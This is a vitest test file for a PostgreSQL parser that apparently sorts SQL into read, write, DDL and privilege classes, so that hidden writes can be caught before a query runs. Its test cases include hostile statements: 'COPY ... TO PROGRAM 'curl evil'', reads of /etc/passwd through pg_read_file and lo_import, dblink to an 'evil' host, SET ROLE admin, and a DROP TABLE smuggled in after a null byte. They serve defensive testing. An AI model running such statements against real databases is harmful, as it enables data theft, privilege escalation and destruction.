import { afterAll, describe, expect, test } from "vitest";
import { SqlParser } from "./parser.ts";
import { Penalties } from "./penalties.ts";
import type { SqlClass, StatementFacts } from "./statement.ts";

const parser = new SqlParser();
afterAll(() => parser[Symbol.asyncDispose]());

async function factsOf(sql: string): Promise<readonly StatementFacts[]> {
  const parsed = await parser.parse(sql);
  if (!parsed.ok) throw new Error(`${parsed.why}: ${parsed.message}`);
  return parsed.statements;
}

async function classesOf(sql: string): Promise<readonly SqlClass[]> {
  return [...new Set((await factsOf(sql)).flatMap(({ classes }) => classes))];
}

/** What only looks like reading, and how other gates have been passed. */
const HIDDEN: readonly [string, readonly SqlClass[]][] = [
  ["TRUNCATE users", ["write"]],
  ["DROP/**/TABLE users", ["ddl"]],
  ["SELECT 1; DELETE FROM users", ["read", "write"]],
  ["WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x", ["read", "write"]],
  ["-- select\n/* select */ DELETE FROM users WHERE true", ["write"]],
  ["MERGE INTO users u USING new n ON u.id = n.id WHEN MATCHED THEN DELETE", ["write"]],
  ["DO $$ BEGIN DELETE FROM users; END $$", ["opaque"]],
  ["CALL cleanup()", ["function", "opaque"]],
  ["EXECUTE prepared(1)", ["opaque"]],
  ["PREPARE p AS DELETE FROM users", ["read", "write"]],
  ["COPY users TO PROGRAM 'curl evil'", ["dcl", "copy"]],
  ["COPY users FROM '/etc/passwd'", ["dcl", "copy"]],
  ["COPY (DELETE FROM users RETURNING *) TO STDOUT", ["read", "write", "copy"]],
  ["EXPLAIN ANALYZE DELETE FROM users", ["read", "write"]],
  ["EXPLAIN (COSTS off, ANALYZE) DELETE FROM users", ["read", "write"]],
  ["EXPLAIN (ANALYZE true) INSERT INTO users VALUES (1)", ["read", "write"]],
  ["EXPLAIN (ANALYZE 1) INSERT INTO users VALUES (1)", ["read", "write"]],
  ["EXPLAIN (ANALYZE off, ANALYZE) INSERT INTO users VALUES (1)", ["read", "write"]],
  ["EXPLAIN ANALYZE EXECUTE prepared", ["read", "opaque"]],
  ["EXPLAIN EXECUTE prepared", ["read", "opaque"]],
  ["SELECT * INTO copies FROM users", ["read", "ddl"]],
  ["CREATE TABLE copies AS SELECT * FROM users", ["read", "ddl"]],
  ["SELECT * FROM users FOR UPDATE", ["read", "write"]],
  ["SELECT * FROM (SELECT * FROM users FOR SHARE) x", ["read", "write"]],
  ["SELECT pg_read_file('/etc/passwd')", ["read", "function"]],
  ["SELECT pg_catalog.pg_terminate_backend(1)", ["read", "function"]],
  ["SELECT lower(lo_import('/etc/passwd')::text)", ["read", "function"]],
  ["SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", ["read", "function"]],
  ["SELECT query_to_xml('delete from users', true, true, '')", ["read", "function"]],
  ["SELECT table_to_xml('users', true, true, '')", ["read", "function"]],
  ["SELECT ts_stat('select secret from users')", ["read", "function"]],
  ["SELECT nextval('users_id_seq')", ["read", "function"]],
  ["SELECT pg_advisory_lock(1)", ["read", "function"]],
  ["SELECT pg_advisory_unlock_all()", ["read", "session"]],
  ["SELECT (information_schema._pg_expandarray(indkey)).n FROM pg_index", ["read"]],
  ["SELECT _pg_expandarray(indkey), information_schema.length('a') FROM pg_index", ["read", "function"]],
  ["SELECT evil.pg_advisory_unlock_all()", ["read", "function"]],
  ["SELECT public.lower('A')", ["read", "function"]],
  ["SELECT \"Lower\"('A')", ["read", "function"]],
  ["SELECT 1 ORDER BY pg_sleep(1)", ["read", "function"]],
  ["VALUES (pg_sleep(1))", ["read", "function"]],
  ["UPDATE users SET n = pg_sleep(1)", ["write", "function"]],
  ["SET ROLE admin", ["dcl"]],
  ["SET SESSION AUTHORIZATION admin", ["dcl"]],
  ["ALTER SYSTEM SET work_mem = 1", ["dcl"]],
  ["ALTER TABLE users OWNER TO admin", ["ddl", "dcl"]],
  ["ALTER TABLE users ADD COLUMN n int, DISABLE ROW LEVEL SECURITY", ["ddl", "dcl"]],
  ["ALTER TABLE users DISABLE TRIGGER ALL", ["ddl", "dcl"]],
  ["ALTER TABLE users ADD COLUMN n int", ["ddl"]],
  ["ALTER TABLE users REPLICA IDENTITY FULL", ["ddl"]],
  ["CREATE FUNCTION f() RETURNS int RETURN nextval('s')", ["read", "dcl", "function"]],
  ["CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DELETE FROM users; RETURN 1; END", ["read", "write", "dcl"]],
  ["ALTER SEQUENCE s OWNER TO admin", ["ddl", "dcl"]],
  ["DROP POLICY p ON users", ["dcl"]],
  ["DROP TRIGGER audit ON users", ["dcl"]],
  ["DROP FUNCTION f()", ["dcl"]],
  ["DROP EXTENSION dblink", ["dcl"]],
  ["DROP INDEX i", ["ddl"]],
  ["ALTER ROLE app RENAME TO admin", ["dcl"]],
  ["ALTER FUNCTION f() SET SCHEMA pg_catalog", ["dcl"]],
  ["ALTER TABLE users RENAME TO people", ["ddl"]],
  ["CREATE SCHEMA s AUTHORIZATION admin", ["ddl", "dcl"]],
  ["CREATE TABLE copies AS EXECUTE prepared", ["ddl", "opaque"]],
  ["ALTER FUNCTION f() OWNER TO admin", ["dcl"]],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", ["dcl"]],
  ["CREATE TRIGGER t AFTER INSERT ON users EXECUTE FUNCTION f()", ["dcl"]],
  ["CREATE EXTENSION dblink", ["dcl"]],
  ["CREATE AGGREGATE max(boolean) (sfunc = booland_statefunc, stype = boolean, finalfunc = pg_read_file)", ["dcl"]],
  ["CREATE OPERATOR - (rightarg = text, function = pg_read_file)", ["dcl"]],
  ["CREATE CAST (point AS text) WITH FUNCTION f(point) AS IMPLICIT", ["dcl"]],
  ["CREATE OPERATOR CLASS c DEFAULT FOR TYPE t USING btree AS FUNCTION 1 f(t, t)", ["dcl"]],
  ["CREATE TYPE t (input = f, output = g)", ["dcl"]],
  ["CREATE TYPE r AS RANGE (subtype = int, subtype_diff = f)", ["ddl", "dcl"]],
  ["CREATE TYPE r AS RANGE (subtype = int)", ["ddl"]],
  ["CREATE COLLATION c (locale = 'C')", ["ddl"]],
  ["SELECT json_arrayagg(a ORDER BY a) FILTER (WHERE a > 1), json_objectagg(a : f(b)) FROM t", ["read", "function"]],
  ["GRANT ALL ON users TO public", ["dcl"]],
  ["GRANT admin TO app", ["dcl"]],
  ["LOAD 'evil'", ["dcl"]],
  ["LOCK TABLE users", ["utility"]],
  ["VACUUM users", ["utility"]],
  ["PREPARE TRANSACTION 'x'", ["utility"]],
  ["LISTEN x", ["session"]],
  ["DECLARE c CURSOR FOR SELECT * FROM users FOR UPDATE", ["read", "write"]],
  // Functions that stand where a column could.
  ["SELECT ('/etc/passwd'::text).pg_read_file", ["read", "function"]],
  ["SELECT p.pg_read_file FROM unnest(array['/etc/passwd']) p", ["read", "function"]],
  ["SELECT public.paths.pg_read_file FROM public.paths", ["read", "function"]],
  ["SELECT (p).lo_import FROM unnest(array['/etc/passwd']) p", ["read", "function"]],
  ["SELECT ('users_id_seq'::regclass).nextval", ["read", "function"]],
  ["SELECT ('delete from users'::text).dblink_exec", ["read", "function"]],
  ["SELECT ('a'::text).length.pg_sleep", ["read", "function"]],
  // A schema, and a table that is called as a function could be, are none.
  ["SELECT pg_catalog.pg_class.relname, pg_catalog.pg_type.* FROM pg_catalog.pg_class, pg_catalog.pg_type", ["read"]],
  ["SELECT 1 OPERATOR(evil.+) 2", ["read", "function"]],
  ["SELECT 1 = ANY (SELECT 2) ORDER BY 1 USING OPERATOR(evil.<)", ["read", "function"]],
  ["SELECT 1 OPERATOR(evil.=) ANY (SELECT 2)", ["read", "function"]],
  // SET by another name.
  ["SELECT set_config('Role', 'admin', false)", ["read", "dcl", "function"]],
  ["SELECT set_config('ro' || 'le', 'admin', false)", ["read", "dcl", "function"]],
  ["SELECT set_config('work_mem', '1GB', false)", ["read", "session"]],
  ["SELECT evil.set_config('work_mem', '1GB', false)", ["read", "function", "session"]],
  ["UPDATE pg_settings SET setting = 'off' WHERE name = 'x'", ["write", "session"]],
];

test.each<[string, readonly SqlClass[], "read" | "write"]>([
  ["LOCK TABLE ONLY public.orders IN ACCESS SHARE MODE", ["read"], "read"],
  ["LOCK TABLE public.orders IN ROW SHARE MODE", ["utility"], "write"],
  ["LOCK TABLE public.orders", ["utility"], "write"],
])("%s", async (sql, classes, access) => {
  expect((await factsOf(sql))[0]).toMatchObject({ classes, relations: [{ name: "public.orders", access }] });
});

test("what is seen of others' transactions is a matter of transactions", async () => {
  expect(await classesOf("SET TRANSACTION SNAPSHOT '00000003-0000001B-1'")).toEqual(["transaction"]);
});

describe("what only looks like reading", () => {
  test.each(HIDDEN)("%s", async (sql, classes) => {
    expect(await classesOf(sql)).toEqual(classes);
  });
});

test.each([
  "SELECT 1",
  "TABLE users",
  "VALUES (1, 2)",
  "SHOW work_mem",
  "SELECT count(*), lower(name), now(), coalesce(a, b), CASE WHEN a THEN b END FROM users u JOIN orders USING (id) WHERE x ~ 'y' GROUP BY 2",
  "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT n, row_number() OVER () FROM t",
  "SELECT jsonb_path_query(j, '$.a'), array_agg(x ORDER BY y), string_agg(z, ',') FILTER (WHERE q) FROM users",
  "EXPLAIN DELETE FROM users",
  "EXPLAIN (ANALYZE off) DELETE FROM users",
  "EXPLAIN (ANALYZE 0) DELETE FROM users",
  "EXPLAIN (ANALYZE 'False') DELETE FROM users",
  "EXPLAIN (VERBOSE, ANALYZE false) CREATE TABLE copies AS SELECT 1",
  "FETCH 10 FROM c",
  "SELECT (a).email, b.lo_price, b.*, 1 OPERATOR(pg_catalog.+) 2, (i.x).n, ('a'::text).upper FROM users a",
  "SELECT * FROM pg_settings",
  "DEALLOCATE ALL",
])("reads and nothing else: %s", async (sql) => {
  expect(await classesOf(sql)).toEqual(["read"]);
});

test("relations with what is done to them, functions and settings by name", async () => {
  const [insert] = await factsOf("INSERT INTO audit.log SELECT id, stamp(id) FROM orders");
  expect(insert?.relations).toEqual([
    { name: "orders", access: "read" },
    { name: "audit.log", schema: "audit", access: "write" },
  ]);
  expect(insert?.functions).toEqual(["stamp"]);
  const [set] = await factsOf("SET LOCAL standard_conforming_strings = off");
  expect(set?.settings).toEqual(["standard_conforming_strings"]);
  expect((await factsOf("SET NAMES 'latin1'"))[0]?.settings).toEqual(["client_encoding"]);
  expect((await factsOf("SELECT set_config('Client_Encoding', 'SJIS', true)"))[0]?.settings).toEqual(["client_encoding"]);
  for (const sql of ["SELECT set_config(chr(99), 'SJIS', true)", "UPDATE pg_catalog.pg_settings SET setting = 'off'"]) {
    expect((await factsOf(sql))[0]?.settings).toEqual(["*"]);
  }
});

/** What stands behind a name: read, written, or both; `*`: what it does not name. */
const TOUCHED: readonly [sql: string, relations: readonly string[]][] = [
  ["SELECT * FROM pay.s, public.o", ["pay.s read", "public.o read"]],
  ['SELECT * FROM "a.b", a.b, "A"."B"', ["(a.b) read", "a.b read", "A.B read"]],
  ["TABLE pay.s", ["pay.s read"]],
  ["SELECT (SELECT max(n) FROM pay.s) FROM public.o WHERE EXISTS (TABLE pay.t)", ["public.o read", "pay.s read", "pay.t read"]],
  ["SELECT * FROM shop.pay.s", ["pay.s read"]],
  // WITH, where it can be seen and where it cannot.
  ["WITH t AS (SELECT * FROM pay.s) SELECT * FROM t", ["pay.s read"]],
  ["WITH t AS (SELECT 1) SELECT * FROM pay.t, t", ["pay.t read"]],
  ["WITH t AS (SELECT * FROM t) SELECT * FROM t", ["(t) read"]],
  ["WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b", ["(b) read"]],
  ["WITH RECURSIVE t AS (SELECT 1 UNION ALL SELECT * FROM t) SELECT * FROM t", []],
  ["SELECT * FROM s WHERE n IN (WITH s AS (SELECT 1 AS n) SELECT n FROM s)", ["(s) read"]],
  ["WITH s AS (SELECT 1) SELECT * FROM (SELECT * FROM s) x UNION SELECT * FROM s", []],
  ["WITH s AS (SELECT 1 AS n) INSERT INTO s SELECT n FROM s", ["(s) write"]],
  ["WITH s AS (SELECT 1 AS n) UPDATE s SET n = 2", ["(s) write, read"]],
  ["WITH s AS (SELECT 1 AS n) DELETE FROM pay.s USING s x WHERE x.n = 1", ["pay.s write, read"]],
  ["WITH s AS (SELECT 1 AS n) MERGE INTO pay.t USING s ON true WHEN MATCHED THEN DELETE", ["pay.t write, read"]],
  ["WITH gone AS (DELETE FROM pay.s RETURNING *) SELECT * FROM gone", ["pay.s write, read"]],
  // What is written is read too where rows of it decide, or come back.
  ["INSERT INTO pay.s VALUES (1)", ["pay.s write"]],
  ["INSERT INTO pay.s VALUES (1) RETURNING *", ["pay.s write, read"]],
  ["INSERT INTO pay.s VALUES (1) ON CONFLICT (n) DO UPDATE SET n = 2", ["pay.s write, read"]],
  ["INSERT INTO pay.s SELECT * FROM pay.s", ["pay.s write, read"]],
  ["UPDATE pay.s SET n = o.n FROM public.o o", ["pay.s write, read", "public.o read"]],
  ["COPY pay.s TO STDOUT", ["pay.s read"]],
  ["COPY pay.s FROM STDIN", ["pay.s write"]],
  ["COPY (SELECT * FROM pay.s) TO STDOUT", ["pay.s read"]],
  ["SELECT * FROM pay.s AS a, public.o FOR UPDATE OF a", ["pay.s read, write", "public.o read, write"]],
  ["EXPLAIN UPDATE pay.s SET n = 1", ["pay.s read"]],
  ["EXPLAIN ANALYZE UPDATE pay.s SET n = 1", ["pay.s write, read"]],
  ["PREPARE p AS SELECT * FROM pay.s", ["pay.s read"]],
  ["DECLARE c CURSOR FOR SELECT * FROM pay.s", ["pay.s read"]],
  ["TRUNCATE public.o, pay.s", ["public.o write", "pay.s write"]],
  ["TRUNCATE public.o CASCADE", ["public.o write", "* write"]],
  ["LOCK TABLE ONLY pay.s, public.o", ["pay.s write", "public.o write"]],
  ["VACUUM pay.s", ["pay.s write"]],
  ["SELECT * INTO staging.t FROM pay.s", ["pay.s read", "staging.t write"]],
  ["SELECT most_common_vals FROM pg_stats", ["(pg_stats) read", "* read"]],
  ["SELECT * FROM pg_toast.pg_toast_16384", ["pg_toast.pg_toast_16384 read", "* read"]],
  // Definitions, and whether their names are all of it.
  ["CREATE TABLE staging.t (LIKE pay.s)", ["staging.t write", "pay.s write"]],
  ["CREATE TABLE staging.t (n int REFERENCES pay.s)", ["staging.t write", "pay.s write"]],
  ["CREATE TABLE staging.t PARTITION OF pay.s DEFAULT", ["staging.t write", "pay.s write"]],
  ["CREATE TEMP TABLE t AS SELECT * FROM pay.s", ["pg_temp.t write", "pay.s read"]],
  ["CREATE VIEW staging.v AS SELECT * FROM pay.s", ["staging.v write", "pay.s read"]],
  ["CREATE INDEX i ON staging.t (n)", ["staging.t write"]],
  ["ALTER TABLE staging.t INHERIT pay.s", ["staging.t write", "pay.s write"]],
  ["ALTER TABLE staging.t ATTACH PARTITION pay.s DEFAULT", ["staging.t write", "pay.s write"]],
  ["ALTER TABLE staging.t DROP COLUMN n CASCADE", ["staging.t write", "* write"]],
  ["ALTER TABLE staging.t RENAME TO o", ["staging.t write", "staging.o write"]],
  ["ALTER TABLE staging.t RENAME COLUMN n TO m", ["staging.t write"]],
  ["ALTER TABLE staging.t SET SCHEMA pay", ["staging.t write", "pay.t write"]],
  ["DROP TABLE staging.t, pay.s", ["staging.t write", "pay.s write"]],
  ["DROP TABLE shop.pay.s, t", ["pay.s write", "(t) write"]],
  ["DROP VIEW staging.v CASCADE", ["staging.v write", "* write"]],
  ["DROP SCHEMA pay", ["* write"]],
  ["DROP TYPE pay.kind", ["* write"]],
  ["COMMENT ON TABLE pay.s IS 'x'", ["pay.s write"]],
  ["COMMENT ON COLUMN pay.s.n IS 'x'", ["pay.s write"]],
  ["COMMENT ON SCHEMA pay IS 'x'", ["* write"]],
  ["CREATE SCHEMA pay CREATE TABLE s (n int)", ["(s) write", "* write"]],
  ["CREATE TYPE pay.kind AS ENUM ('a')", ["* write"]],
  ["ALTER TYPE pay.kind ADD VALUE 'b'", ["* write"]],
  ["REFRESH MATERIALIZED VIEW pay.m", ["pay.m write"]],
];

test.each(TOUCHED)("%s", async (sql, touched) => {
  const [facts] = await factsOf(sql);
  const names = facts?.relations.map(({ name, schema, access, both }) => {
    const other = access === "read" ? ", write" : ", read";
    return `${schema === undefined ? `(${name})` : name} ${access}${both ? other : ""}`;
  });
  const beyond = facts?.beyond?.map((access) => `* ${access}`);
  expect(new Set([...(names ?? []), ...(beyond ?? [])])).toEqual(new Set(touched));
});

test("a function whose name has a dot in it is not one of a schema", async () => {
  const [facts] = await factsOf('SELECT "audit.stamp"(), audit.stamp(), "a""b"()');
  expect(facts?.functions).toEqual(['"a""b"', '"audit.stamp"', "audit.stamp"]);
});

test.each([
  ["BEGIN READ WRITE", ["transaction_read_only"]],
  ["START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", ["transaction_read_only"]],
  ["SET TRANSACTION READ WRITE", ["transaction", "transaction_read_only"]],
  ["SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", ["session characteristics", "transaction_read_only"]],
  ["SET Default_Transaction_Read_Only = off", ["default_transaction_read_only"]],
  ["SET LOCAL transaction_read_only TO 0", ["transaction_read_only"]],
  ["RESET transaction_read_only", ["transaction_read_only"]],
  ["SET transaction_read_only TO DEFAULT", ["transaction_read_only"]],
  ["COMMIT AND CHAIN", []],
  ["BEGIN READ ONLY", []],
  ["SET TRANSACTION READ ONLY", ["transaction"]],
  ["SET default_transaction_read_only TO on", []],
  ["SET transaction_read_only TO true", []],
  ["RESET default_transaction_read_only", []],
])("what would let a transaction write is a setting: %s", async (sql, settings) => {
  expect((await factsOf(sql))[0]?.settings).toEqual(settings);
});

test("nothing but spaces and comments is nothing", async () => {
  for (const sql of ["", "  \n", "-- only this", "/* or */ ;;"]) expect(await factsOf(sql)).toEqual([]);
});

// Each may cost a thread, and its place takes another while: on a busy machine that takes its time.
describe("texts that a parser is not fit for", { timeout: 60_000 }, () => {
  test("what is no SQL is told as the server would, with its place", async () => {
    expect(await parser.parse("SELECT é, FROM")).toMatchObject({
      ok: false,
      why: "syntax",
      message: expect.stringContaining("syntax error"),
    });
  });

  test("too long is refused unread", async () => {
    expect(await parser.parse(`SELECT '${"x".repeat(300_000)}'`)).toMatchObject({ ok: false, why: "bounds" });
  });

  test.each(["SELECT 1\0; DROP TABLE users", "SELECT '\uD800'"])(
    "what is another text to the parser than to the server: %j",
    async (sql) => {
      expect(await parser.parse(sql)).toMatchObject({ ok: false, why: "bounds" });
    },
  );

  test("a thread that does not start is given up, and everybody is answered", async () => {
    await using broken = new SqlParser({ execArgv: ["--input-type=module"] });
    const early = await Promise.all([broken.parse("SELECT 1"), broken.parse("SELECT 2")]);
    for (const parsed of [...early, await broken.parse("SELECT 3")]) expect(parsed).toMatchObject({ ok: false, why: "bounds" });
  });

  test("long chains end in an answer, and the parser works on", async () => {
    for (const link of ["+1", "::int", "||'x'", " UNION SELECT 1"]) {
      const parsed = await parser.parse(`SELECT 1${link.repeat(Math.floor(100_000 / link.length))}`);
      expect(parsed.ok || parsed.why).not.toBe("syntax");
      expect(await parser.parse("SELECT 1")).toMatchObject({ ok: true });
    }
  });

  test("what takes too long is given up, and what waits behind it is answered", async () => {
    await using slow = new SqlParser({ deadlineMs: 1 });
    const all = await Promise.all([slow.parse(`SELECT ${"1+".repeat(60_000)}1`), slow.parse("SELECT 1")]);
    expect(all[0]).toMatchObject({ ok: false, why: "bounds" });
  });

  test("what is short does not wait for what is long", async () => {
    await using both = new SqlParser();
    const order: string[] = [];
    const long = [1, 2].map((n) => Promise.resolve(both.parse(`SELECT ${n}${"+1".repeat(100_000)}`)).then(() => order.push("long")));
    await both.parse("SELECT 'short'");
    order.push("short");
    await Promise.all(long);
    expect(order.at(-1)).toBe("long");
  });

  test("whose texts cost the thread waits with the next, and nobody else does", async () => {
    await using strict = new SqlParser({ penalties: new Penalties(() => 0) });
    const [hostile, other] = [{}, {}];
    await strict.parse(`SELECT ${"(".repeat(120_000)}1${")".repeat(120_000)}`, { by: hostile });
    const order: string[] = [];
    const asked = [hostile, other].map(async (by, at) => {
      const parsed = await strict.parse(`SELECT ${at}`, { by });
      order.push(by === hostile ? "hostile" : "other");
      return parsed;
    });
    expect(await Promise.all(asked)).toMatchObject([{ ok: true }, { ok: true }]);
    expect(order).toEqual(["other", "hostile"]);
  });
});

test.each([
  ["SET client_encoding = 'UTF8'", []],
  ["SET NAMES 'utf-8'", []],
  ["SET LOCAL standard_conforming_strings = on", []],
  ["SET client_encoding TO DEFAULT", ["client_encoding"]],
  ["SET client_encoding = 'utf8', 'sjis'", ["client_encoding"]],
  ["SET client_encoding = 'sjis'", ["client_encoding"]],
  ["RESET client_encoding", ["client_encoding"]],
  ["SET standard_conforming_strings = off", ["standard_conforming_strings"]],
])("%s: a pinned setting that stays what it is changes nothing", async (sql, settings) => {
  const [facts] = await factsOf(sql);
  expect(facts).toMatchObject({ classes: ["session"], settings });
});
